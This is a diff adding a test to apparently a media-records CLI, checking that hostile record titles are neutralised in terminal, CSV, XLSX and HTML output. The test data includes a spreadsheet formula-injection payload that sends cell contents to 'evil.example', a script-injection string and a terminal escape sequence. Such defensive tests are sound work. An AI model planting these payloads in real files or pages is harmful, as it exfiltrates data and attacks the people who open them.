@@ -187,3 +187,26 @@ def test_info_names_folders_profiles_and_hides_the_token(run, emulator, tmp_path
     assert "mediaframe 0." in result.stdout and str(tmp_path / "cache") in result.stdout
     assert f"p: {emulator.base_url}" in result.stdout
     assert "MEDIAFRAME_TOKEN set (hidden)" in result.stdout
+
+
+def test_a_hostile_title_from_the_server_is_neutralised_in_every_output(
+    fresh_emulator, tmp_path
+):
+    emu = fresh_emulator(records=200, cap=1000)
+    run = runner_for(emu, tmp_path)
+    truth = emu.ground_truth()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1)<script>alert(1)</script>'
+    emu.update_record(int(truth["databox_id"][0]), int(truth["record_id"][0]), title=hostile)
+    emu.update_record(int(truth["databox_id"][1]), int(truth["record_id"][1]), title="\x1b[2Jx")
+    shown = run("records", "--limit", "-1", COLUMNS="400")
+    assert shown.exit_code == 0, shown.stderr
+    assert "\x1b" not in shown.stdout and "\N{REPLACEMENT CHARACTER}[2J" in shown.stdout
+    assert run("records", "-o", str(tmp_path / "r.csv")).exit_code == 0
+    assert "'=HYPERLINK" in (tmp_path / "r.csv").read_text()
+    assert run("records", "-o", str(tmp_path / "r.xlsx")).exit_code == 0
+    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["records"]
+    cells = [c for c in sheet["H"] if c.value and str(c.value).startswith("=HYPERLINK")]
+    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].quotePrefix
+    assert run("records", "-o", str(tmp_path / "r.html")).exit_code == 0
+    page = (tmp_path / "r.html").read_text()
+    assert "<script>alert" not in page and "&lt;script&gt;alert(1)" in page
